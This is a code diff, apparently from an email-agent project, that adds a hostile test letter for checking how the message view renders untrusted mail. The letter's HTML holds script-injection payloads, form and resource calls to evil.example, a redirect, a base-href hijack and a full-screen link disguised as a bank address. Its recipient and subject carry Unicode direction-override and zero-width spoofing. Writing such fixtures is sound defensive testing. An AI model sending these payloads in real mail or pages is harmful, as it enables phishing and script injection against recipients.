@@ -313,3 +313,27 @@ export const RULES: [code: string, title: string, passSentence: string][] = [
   ["rate_limit", "Rate limits", "12 of 100 this hour"],
   ["autonomy", "Autonomy of the agent", "no question left for a person"],
 ];
+
+/** Everything a stranger might try, in one mail; for the tests of the message view. */
+export const HOSTILE: Letter = {
+  agent: "outreach",
+  from: "Lena Brandt <hello@sendoff.test>",
+  to: [["Pay\u202eLap", "pay\u200bments@bank.example", true]],
+  subject: "Invoice \u202egnp.exe",
+  text: null,
+  html: `<script>top.pwned = 1; parent.pwned = 1</script>
+<img src="x" onerror="parent.pwned = 1"><svg onload="parent.pwned = 1"></svg>
+<style>@import url(https://evil.example/a.css); body { background: url(https://evil.example/b.png) }</style>
+<link rel="stylesheet" href="https://evil.example/c.css"><meta http-equiv="refresh" content="0;url=https://evil.example/d">
+<base href="https://evil.example/"><form action="https://evil.example/e"><input name="a" autofocus><button>Go</button></form>
+<iframe src="https://evil.example/f"></iframe><object data="https://evil.example/g"></object>
+<video src="https://evil.example/h" autoplay></video>
+<a id="out" href="https://evil.example/i" style="position:fixed;inset:0">https://bank.example</a>`,
+  why: "first mail to bank.example",
+  sentence: "Held: first mail to bank.example from this agent.",
+  minutesAgo: 1,
+  expiresInMinutes: 1_400,
+  fires: [STRANGERS("bank.example")],
+  links: [{ text: "https://bank.example", target: "https://evil.example/i" }],
+  warnings: [],
+};
